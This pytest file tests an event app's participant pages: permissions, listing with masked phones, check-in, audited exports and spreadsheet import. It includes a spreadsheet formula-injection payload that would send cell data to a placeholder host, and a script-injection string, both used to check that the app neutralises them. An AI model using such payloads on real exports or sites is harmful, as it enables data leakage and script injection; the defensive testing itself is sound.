"""The organisers' participant pages: permissions, the list and panel, adding, roles, cancelling,
check-in and walk-ins, exports with their audit trail, and the import."""

import csv
import io
import re

import pytest
from openpyxl import Workbook, load_workbook
from sqlalchemy import func, select

from kotaku_collab.models import (AttendanceStatus, AuditEvent, Gender, ParticipantRole, Person,
                                  Registration, RegistrationStatus, Sector)
from kotaku_collab.services.imports import HEADER
from kotaku_collab.services.people import mask_phone
from tests import factories

PHONE = "+6281234567890"


@pytest.fixture(autouse=True)
def english(client):
    """Messages are asserted in English, the msgid language."""
    client.environ_base["HTTP_ACCEPT_LANGUAGE"] = "en"


@pytest.fixture
def workshop(db):
    w = factories.make_workshop("51.05", capacity=2, title="Lokakarya Klungkung",
                                sector_targets={"filantropi": 2})
    db.session.commit()
    return w


@pytest.fixture
def organiser(login_as):
    return login_as("organiser", regions=["51.05"])


def person_in(sector=Sector.PEMERINTAH, name=None, organisation=None, **kwargs):
    org = factories.make_organisation(organisation, sector=sector)
    return factories.make_person(name, organisation=org, **kwargs)


def register(workshop, sector=Sector.PEMERINTAH, name=None, organisation=None, person_kwargs=None,
             **kwargs):
    return factories.make_registration(workshop, person_in(sector, name, organisation,
                                                           **(person_kwargs or {})), **kwargs)


def count(db, model, *where):
    return db.session.scalar(select(func.count()).select_from(model).where(*where))


def base(workshop):
    return f"/manage/workshops/{workshop.id}"


GET_PAGES = ["/participants", "/participants?find=ab", "/participants/people.json?q=ab",
             "/checkin", "/daftar-hadir.pdf", "/participants.csv", "/participants.xlsx",
             "/participants/import", "/participants/import-template.xlsx"]
POSTS = ["/participants/add", "/participants/new", "/participants/{r}/cancel",
         "/participants/{r}/role", "/checkin/{r}", "/checkin/walk-in", "/participants/import"]


# --- Permissions --------------------------------------------------------------------------


@pytest.mark.parametrize("path", GET_PAGES)
def test_organiser_of_the_region_and_admin_may_open_every_page(client, login_as, workshop, path):
    login_as("organiser", regions=["51.05"])
    assert client.get(base(workshop) + path).status_code == 200
    login_as("admin")
    assert client.get(base(workshop) + path).status_code == 200


@pytest.mark.parametrize("path", GET_PAGES + POSTS)
def test_others_are_turned_away(client, login_as, db, workshop, path):
    registration = register(workshop)
    db.session.commit()
    url = base(workshop) + path.format(r=registration.id)
    send = client.post if path in POSTS else client.get
    response = send(url)
    assert response.status_code == 302 and "/login" in response.headers["Location"]
    login_as("organiser", regions=["35.75"])
    assert send(url).status_code == 404
    login_as("reviewer", regions=["51.05"])
    assert send(url).status_code == 403
    login_as("stakeholder", organisation=factories.make_organisation(region_code="51.05"))
    assert send(url).status_code == 403
    login_as("stakeholder", organisation=factories.make_organisation(region_code="35.75"))
    assert send(url).status_code == 404
    assert count(db, AuditEvent, AuditEvent.action == "export") == 0
    db.session.refresh(registration)
    assert registration.status is RegistrationStatus.CONFIRMED and registration.attendance is None


def test_a_registration_of_another_workshop_is_not_found(client, organiser, db, workshop):
    other = factories.make_workshop("51.05")
    foreign = register(other)
    db.session.commit()
    for path in (f"/participants/{foreign.id}/cancel", f"/participants/{foreign.id}/role",
                 f"/checkin/{foreign.id}"):
        assert client.post(base(workshop) + path, data={"role": "panitia",
                                                        "attendance": "hadir"}).status_code == 404
    db.session.refresh(foreign)
    assert foreign.status is RegistrationStatus.CONFIRMED and foreign.attendance is None


def test_state_changes_need_a_post(client, organiser, db, workshop):
    registration = register(workshop)
    db.session.commit()
    for path in (f"/participants/{registration.id}/cancel", f"/checkin/{registration.id}",
                 "/checkin/walk-in", "/participants/add"):
        assert client.get(base(workshop) + path).status_code == 405


# --- The list -----------------------------------------------------------------------------


def test_list_shows_participants_panel_and_masked_phones_only(client, organiser, db, workshop):
    register(workshop, Sector.PEMERINTAH, "Gede Dinas", "Dinas PUPR",
             person_kwargs={"phone": PHONE, "email": "gede@example.org",
                            "gender": Gender.LAKI_LAKI, "title_prefix": "Ir."},
             attendance=AttendanceStatus.HADIR)
    register(workshop, Sector.FILANTROPI, "Ayu Yayasan", person_kwargs={"phone": "+6281311112222"})
    register(workshop, Sector.MEDIA, "Putu Menunggu", status=RegistrationStatus.WAITLISTED,
             waitlist_position=1)
    db.session.commit()
    response = client.get(base(workshop) + "/participants")
    html = response.get_data(as_text=True)
    assert response.headers["Cache-Control"] == "no-store"
    assert "Ir. Gede Dinas" in html and "Dinas PUPR" in html and "Putu Menunggu" in html
    assert mask_phone(PHONE) in html and mask_phone(PHONE).startswith("+62812*")
    assert PHONE not in html and "+6281311112222" not in html and "gede@example.org" not in html
    assert not re.search(r"\+62\d{8,}", html)
    assert 'data-testid="seats">2 / 2<' in html
    assert 'data-testid="waitlisted">1<' in html
    assert 'data-testid="target-warning"' in html
    assert "#1" in html  # waiting-list position


def test_list_filters_by_status_sector_role_and_search(client, organiser, db, workshop):
    register(workshop, Sector.PEMERINTAH, "Gede Dinas", "Dinas PUPR")
    register(workshop, Sector.FILANTROPI, "Ayu Yayasan", "Yayasan Bali Hijau",
             role=ParticipantRole.NARASUMBER)
    register(workshop, Sector.MEDIA, "Putu Menunggu", status=RegistrationStatus.WAITLISTED,
             waitlist_position=1)
    db.session.commit()

    def names(query):
        html = client.get(base(workshop) + "/participants?" + query).get_data(as_text=True)
        table = html.split('data-testid="participants-table"')[1].split("</table>")[0]
        return {n for n in ("Gede Dinas", "Ayu Yayasan", "Putu Menunggu") if n in table}

    assert names("") == {"Gede Dinas", "Ayu Yayasan", "Putu Menunggu"}
    assert names("status=waitlisted") == {"Putu Menunggu"}
    assert names("sector=filantropi") == {"Ayu Yayasan"}
    assert names("role=narasumber") == {"Ayu Yayasan"}
    assert names("q=bali+hijau") == {"Ayu Yayasan"}
    assert names("q=gede") == {"Gede Dinas"}
    assert names("status=nonsense") == {"Gede Dinas", "Ayu Yayasan", "Putu Menunggu"}


@pytest.mark.parametrize("page", ["/participants", "/participants?find=peserta", "/checkin"])
def test_query_count_does_not_grow_with_registrations(client, organiser, db, page):
    workshop = factories.make_workshop("51.05", capacity=50)
    register(workshop, person_kwargs={"phone": PHONE, "gender": Gender.PEREMPUAN},
             attendance=AttendanceStatus.HADIR)
    db.session.commit()
    response = client.get(base(workshop) + page)
    assert response.status_code == 200
    one = int(response.headers["X-Query-Count"])
    for i in range(39):
        register(workshop, list(Sector)[i % 7], person_kwargs={"phone": PHONE},
                 attendance=AttendanceStatus.HADIR if i % 2 else None)
    db.session.commit()
    assert count(db, Registration) == 40
    response = client.get(base(workshop) + page)
    assert int(response.headers["X-Query-Count"]) == one
    assert response.get_data(as_text=True).count('id="r-') == 40


# --- Adding people ------------------------------------------------------------------------


def test_search_offers_directory_people_and_adds_one(client, organiser, db, workshop):
    komang = person_in(Sector.FILANTROPI, "Komang Dermawan", "BAZNAS Klungkung", phone=PHONE)
    already = person_in(Sector.PEMERINTAH, "Komang Sudah")
    factories.make_registration(workshop, already)
    db.session.commit()
    html = client.get(base(workshop) + "/participants?find=komang").get_data(as_text=True)
    assert "Komang Dermawan" in html and "BAZNAS Klungkung" in html
    assert f'data-testid="add-person-{komang.id}"' in html
    assert f'data-testid="add-person-{already.id}"' not in html
    assert PHONE not in html

    suggestions = client.get(base(workshop) + "/participants/people.json?q=dermawan").get_json()
    assert suggestions == {"people": [{"id": komang.id, "name": "Komang Dermawan",
                                       "organisation": "BAZNAS Klungkung"}]}

    response = client.post(base(workshop) + "/participants/add",
                           data={"person_id": komang.id, "role": "undangan"})
    assert response.status_code == 302
    registration = db.session.scalars(select(Registration).where(
        Registration.person_id == komang.id)).one()
    assert registration.role is ParticipantRole.UNDANGAN
    assert registration.sector is Sector.FILANTROPI
    assert "Komang Dermawan" in client.get(response.headers["Location"]).get_data(as_text=True)


@pytest.mark.parametrize("data", [{"person_id": "", "role": "peserta"},
                                  {"person_id": "999999", "role": "peserta"},
                                  {"person_id": "1", "role": "raja"}])
def test_adding_with_bad_input_re_renders_and_stores_nothing(client, organiser, db, workshop, data):
    response = client.post(base(workshop) + "/participants/add", data=data)
    assert response.status_code == 200
    assert 'data-testid="page-errors"' in response.get_data(as_text=True)
    assert count(db, Registration) == 0


def new_person(**overrides):
    data = {"new-name": "Ni Made Ayu", "new-organisation": "Yayasan Bali Hijau",
            "new-sector": "filantropi", "new-position": "Ketua", "new-phone": "0812 3456 7890",
            "new-email": "ayu@example.org", "new-gender": "P", "new-role": "peserta"}
    data.update(overrides)
    return data


def test_organiser_creates_and_registers_a_new_person(client, organiser, db, workshop):
    response = client.post(base(workshop) + "/participants/new", data=new_person())
    assert response.status_code == 302
    registration = db.session.scalars(select(Registration)).one()
    assert registration.person.phone == PHONE and registration.person.gender is Gender.PEREMPUAN
    assert registration.sector is Sector.FILANTROPI and not registration.self_registered
    again = client.post(base(workshop) + "/participants/new",
                        data=new_person(**{"new-name": "Ayu again"}))
    assert again.status_code == 302 and count(db, Registration) == 1 and count(db, Person) == 1


@pytest.mark.parametrize("overrides, message", [
    ({"new-phone": "12345"}, "not a valid phone number"),
    ({"new-email": "ayu @example.org"}, "valid e-mail"),
    ({"new-name": "A" * 10000}, "120"),
    ({"new-name": ""}, "This field is required"),
    ({"new-sector": "", "new-organisation": "Organisasi Baru Sekali"}, "choose its sector"),
    ({"new-role": "raja"}, "Not a valid choice"),
    ({"new-name": "<script>alert(1)</script>", "new-phone": "1"}, "not a valid phone number"),
])
def test_new_person_with_bad_input_re_renders_with_the_message(client, organiser, db, workshop,
                                                                 overrides, message):
    response = client.post(base(workshop) + "/participants/new", data=new_person(**overrides))
    assert response.status_code == 200
    html = response.get_data(as_text=True)
    assert message in html
    assert "<script>alert(1)</script>" not in html
    assert count(db, Registration) == 0 and count(db, Person) == 0


# --- Cancelling and roles -----------------------------------------------------------------


def test_cancelling_promotes_the_waiting_list(client, organiser, db, workshop):
    seated = register(workshop, name="Duduk")
    register(workshop, name="Duduk Dua")
    waiting = register(workshop, name="Menunggu", status=RegistrationStatus.WAITLISTED,
                       waitlist_position=1)
    db.session.commit()
    response = client.post(base(workshop) + f"/participants/{seated.id}/cancel")
    assert response.status_code == 302
    db.session.refresh(seated)
    db.session.refresh(waiting)
    assert seated.status is RegistrationStatus.CANCELLED
    assert waiting.status is RegistrationStatus.CONFIRMED
    html = client.get(response.headers["Location"]).get_data(as_text=True)
    assert "Menunggu moved up from the waiting list" in html


def test_changing_a_role_and_a_refused_change(client, organiser, db, workshop):
    participant = register(workshop)
    speaker = register(workshop, role=ParticipantRole.NARASUMBER)
    register(workshop)
    db.session.commit()
    response = client.post(base(workshop) + f"/participants/{participant.id}/role",
                           data={"role": "moderator"})
    assert response.status_code == 302
    db.session.refresh(participant)
    assert participant.role is ParticipantRole.MODERATOR
    # The freed seat goes to a newcomer; then the speaker cannot become a participant.
    register(workshop)
    db.session.commit()
    refused = client.post(base(workshop) + f"/participants/{speaker.id}/role",
                          data={"role": "peserta"})
    assert refused.status_code == 200 and "No seat is free" in refused.get_data(as_text=True)
    db.session.refresh(speaker)
    assert speaker.role is ParticipantRole.NARASUMBER
    bad = client.post(base(workshop) + f"/participants/{speaker.id}/role", data={"role": "x"})
    assert bad.status_code == 200 and 'data-testid="page-errors"' in bad.get_data(as_text=True)


# --- Check-in -----------------------------------------------------------------------------


def test_checkin_finds_by_organisation_and_records_each_state(client, organiser, db, workshop):
    ayu = register(workshop, Sector.MASYARAKAT, "Ni Luh Ayu", "BKM Semarapura Kaja")
    register(workshop, Sector.PEMERINTAH, "Gede Dinas", "Dinas PUPR")
    db.session.commit()
    html = client.get(base(workshop) + "/checkin?q=semarapura").get_data(as_text=True)
    assert "Ni Luh Ayu" in html and "Gede Dinas" not in html
    url = base(workshop) + f"/checkin/{ayu.id}"
    response = client.post(url, data={"attendance": "hadir", "q": "semarapura"})
    assert response.status_code == 302
    assert "q=semarapura" in response.headers["Location"]
    assert response.headers["Location"].endswith(f"#r-{ayu.id}")
    db.session.refresh(ayu)
    assert ayu.attendance is AttendanceStatus.HADIR and ayu.checked_in_at is not None
    for state in ("izin", "tidak_hadir"):
        client.post(url, data={"attendance": state})
        db.session.refresh(ayu)
        assert ayu.attendance is AttendanceStatus(state) and ayu.checked_in_at is None
    client.post(url, data={"attendance": "diwakili", "delegate_name": "Kadek Wakil"})
    db.session.refresh(ayu)
    assert ayu.attendance is AttendanceStatus.DIWAKILI and ayu.delegate_name == "Kadek Wakil"


@pytest.mark.parametrize("data, message", [
    ({"attendance": "diwakili", "delegate_name": " "}, "Name the delegate"),
    ({"attendance": "tidur"}, "Not a valid choice"),
    ({"attendance": "diwakili", "delegate_name": "x" * 121}, "120"),
])
def test_checkin_with_bad_input_re_renders(client, organiser, db, workshop, data, message):
    registration = register(workshop)
    db.session.commit()
    response = client.post(base(workshop) + f"/checkin/{registration.id}", data=data)
    assert response.status_code == 200 and message in response.get_data(as_text=True)
    db.session.refresh(registration)
    assert registration.attendance is None


def walk_in(**overrides):
    data = {"walkin-name": "Datang Langsung", "walkin-organisation": "Kelurahan Semarapura Kauh",
            "walkin-sector": "pemerintah", "walkin-phone": "", "walkin-email": "",
            "walkin-gender": "L"}
    data.update(overrides)
    return data


def test_walk_ins_are_present_and_never_push_seats_over_capacity(client, organiser, db, workshop):
    for i in range(3):
        response = client.post(base(workshop) + "/checkin/walk-in",
                               data=walk_in(**{"walkin-name": f"Walk-in {i}",
                                               "walkin-email": f"w{i}@example.org"}))
        assert response.status_code == 302
    registrations = db.session.scalars(select(Registration).order_by(Registration.id)).all()
    assert [r.status for r in registrations] == [RegistrationStatus.CONFIRMED,
                                                 RegistrationStatus.CONFIRMED,
                                                 RegistrationStatus.WAITLISTED]
    assert all(r.attendance is AttendanceStatus.HADIR for r in registrations)
    assert all(r.role is ParticipantRole.PESERTA for r in registrations)
    db.session.refresh(workshop)
    assert workshop.seats_taken == workshop.capacity == 2
    html = client.get(base(workshop) + "/participants").get_data(as_text=True)
    assert 'data-testid="attended-from-waitlist"' in html


def test_walk_in_with_bad_input_re_renders_the_checkin_page(client, organiser, db, workshop):
    response = client.post(base(workshop) + "/checkin/walk-in",
                           data=walk_in(**{"walkin-phone": "0000"}))
    assert response.status_code == 200
    html = response.get_data(as_text=True)
    assert "not a valid phone number" in html and 'data-testid="walk-in-form"' in html
    assert count(db, Registration) == 0


# --- Exports and documents ----------------------------------------------------------------


def export_events(db):
    return db.session.scalars(select(AuditEvent).where(AuditEvent.action == "export")).all()


def test_csv_export_is_formula_safe_and_audited(client, organiser, db, workshop):
    register(workshop, Sector.FILANTROPI, '=HYPERLINK("http://x/?"&A1,"x")', "@SUM(1+1)",
             person_kwargs={"phone": PHONE, "email": "x@example.org"})
    register(workshop, Sector.MEDIA, "Putu")
    db.session.commit()
    response = client.get(base(workshop) + "/participants.csv")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert response.headers["Content-Disposition"] == \
        f'attachment; filename="peserta-{workshop.code}.csv"'
    assert response.headers["Cache-Control"] == "no-store"
    rows = list(csv.reader(io.StringIO(response.get_data().decode("utf-8-sig"), newline="")))
    assert rows[0] == ["code", "name", "organisation", "sector", "position", "role", "status",
                       "attendance", "phone", "email"]
    hostile = next(r for r in rows if "HYPERLINK" in r[1])
    assert hostile[1].startswith("'=") and hostile[2] == "'@SUM(1+1)"
    assert hostile[8] == PHONE and hostile[9] == "x@example.org"
    [event] = export_events(db)
    assert event.actor_id == organiser.id and event.workshop_id == workshop.id
    assert event.changes["format"] == "csv" and event.changes["rows"] == 2


def test_xlsx_export_follows_the_filters_and_is_audited(client, organiser, db, workshop):
    register(workshop, Sector.FILANTROPI, "Ayu", person_kwargs={"phone": PHONE})
    register(workshop, Sector.MEDIA, "Putu")
    db.session.commit()
    response = client.get(base(workshop) + "/participants.xlsx?sector=filantropi")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.get_data())).active
    assert sheet.max_row == 2
    assert sheet["B2"].value == "Ayu" and sheet["I2"].value == PHONE
    assert sheet["I2"].data_type == "s" and sheet["I2"].number_format == "@"
    [event] = export_events(db)
    assert event.changes["format"] == "xlsx" and event.changes["rows"] == 1


def test_daftar_hadir_pdf_is_downloaded_and_audited(client, organiser, db, workshop):
    from pypdf import PdfReader

    register(workshop, Sector.MASYARAKAT, "Ni Luh Ayu", "BKM Semarapura Kaja")
    db.session.commit()
    response = client.get(base(workshop) + "/daftar-hadir.pdf")
    assert response.status_code == 200 and response.mimetype == "application/pdf"
    assert "attachment" in response.headers["Content-Disposition"]
    text = PdfReader(io.BytesIO(response.get_data())).pages[0].extract_text()
    assert "Ni Luh Ayu" in text and "BKM Semarapura Kaja" in text
    [event] = export_events(db)
    assert event.changes["format"] == "pdf" and event.changes["rows"] == 1


def test_workshop_page_links_to_the_participant_pages(client, organiser, workshop):
    html = client.get(f"/workshops/{workshop.id}").get_data(as_text=True)
    for path in ("/participants", "/checkin", "/daftar-hadir.pdf", "/participants.xlsx",
                 "/participants.csv"):
        assert f'href="{base(workshop)}{path}"' in html


def test_workshop_page_has_no_participant_links_for_a_reviewer(client, login_as, workshop):
    login_as("reviewer", regions=["51.05"])
    html = client.get(f"/workshops/{workshop.id}").get_data(as_text=True)
    assert "/checkin" not in html and "daftar-hadir" not in html


# --- Import -------------------------------------------------------------------------------


def upload(rows, header=HEADER, filename="peserta.xlsx"):
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(list(header))
    for row in rows:
        sheet.append(list(row))
    buffer = io.BytesIO()
    workbook.save(buffer)
    buffer.seek(0)
    return (buffer, filename)


GOOD = ["I Wayan Wasta", "Dinas PUPR", "pemerintah", "Kabid", "081234567890",
        "wasta@example.org", "L", "peserta"]
BAD_PHONE = ["Ni Made Ayu", "BKM Kauh", "masyarakat", "", "12345", "ayu@example.org", "P", ""]
BAD_SECTOR = ["Gede", "PT Maju", "swasta", "", "", "gede@example.org", "", ""]


def test_import_of_a_broken_file_reports_rows_and_imports_nothing(client, organiser, db, workshop):
    response = client.post(base(workshop) + "/participants/import",
                           data={"file": upload([GOOD, BAD_PHONE, BAD_SECTOR])},
                           content_type="multipart/form-data")
    assert response.status_code == 200
    html = response.get_data(as_text=True)
    assert 'data-testid="import-refused"' in html
    table = html.split('data-testid="import-errors"')[1]
    assert re.search(r"<td>3</td><td><code>phone</code></td>", table)
    assert re.search(r"<td>4</td><td><code>sector</code></td>", table)
    assert count(db, Registration) == 0 and count(db, Person) == 0


def test_import_of_valid_rows_only_when_asked(client, organiser, db, workshop):
    response = client.post(base(workshop) + "/participants/import",
                           data={"file": upload([GOOD, BAD_PHONE, BAD_SECTOR]), "valid_only": "y"},
                           content_type="multipart/form-data")
    assert response.status_code == 200
    assert 'data-testid="import-done"' in response.get_data(as_text=True)
    registration = db.session.scalars(select(Registration)).one()
    assert registration.person.email == "wasta@example.org" and registration.person.phone == PHONE
    event = db.session.scalars(select(AuditEvent).where(AuditEvent.action == "import")).one()
    assert event.changes == {"rows": 3, "imported": 1, "errors": 2}


@pytest.mark.parametrize("file, message", [
    ((io.BytesIO(b"%PDF-1.4"), "peserta.pdf"), "not a spreadsheet"),
    ((io.BytesIO(b"hello"), "peserta.xlsx"), "not a readable .xlsx"),
    ((io.BytesIO("nama;organisasi\nJosé".encode("latin-1")), "peserta.csv"), "not UTF-8"),
])
def test_import_refuses_files_that_are_not_spreadsheets(client, organiser, db, workshop, file,
                                                         message):
    response = client.post(base(workshop) + "/participants/import", data={"file": file},
                           content_type="multipart/form-data")
    assert response.status_code == 200
    assert message in response.get_data(as_text=True)
    assert count(db, Registration) == 0


def test_import_without_a_file_re_renders(client, organiser, workshop):
    response = client.post(base(workshop) + "/participants/import", data={})
    assert response.status_code == 200
    assert "This field is required" in response.get_data(as_text=True)


def test_import_template_has_the_header(client, organiser, workshop):
    response = client.get(base(workshop) + "/participants/import-template.xlsx")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.get_data())).worksheets[0]
    assert tuple(c.value for c in sheet[1]) == HEADER
